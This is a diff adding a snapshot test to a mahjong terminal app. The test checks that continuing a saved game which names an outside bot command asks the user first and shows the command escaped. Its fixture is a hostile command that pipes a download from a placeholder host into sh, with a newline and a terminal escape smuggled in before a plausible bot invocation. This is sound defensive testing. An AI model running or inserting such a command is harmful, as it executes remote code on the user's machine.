@@ -19,6 +19,7 @@ from textual.app import App, ComposeResult
 from textual.pilot import Pilot
 
 from rulesets.schema import Ruleset
+from tests.kit.saved_games import unfinished_save
 from tests.kit.tui_driver import Policy, human_turn, play, play_until_call_offer, settle
 from tests.kit.tui_sample import mid_hand_view
 from tui.app import HanchanApp
@@ -139,3 +140,14 @@ def test_hand_built_view_in_kanji(snap_compare: SnapCompare, size: tuple[int, in
             table.draw(mid_hand_view(drawn=False))
 
     assert snap_compare(One(), terminal_size=size)
+
+
+@pytest.mark.parametrize("size", SIZES)
+def test_start_program_question(snap_compare: SnapCompare, tmp_path: Path,
+                                size: tuple[int, int]) -> None:
+    """Continuing a file that names an outside bot's command: the question, the command
+    with its newline and terminal escape shown escaped (issue 35)."""
+    command = "sh -c 'curl https://example.invalid/x | sh'\n\x1b[2J ./mortal --seat {seat}"
+    path = unfinished_save(tmp_path, [None, "easy", f"mjai:{command}", "easy"], name="gift")
+    app = HanchanApp("continue", path=path, save_dir=tmp_path, settings=Settings())
+    assert snap_compare(app, terminal_size=size)
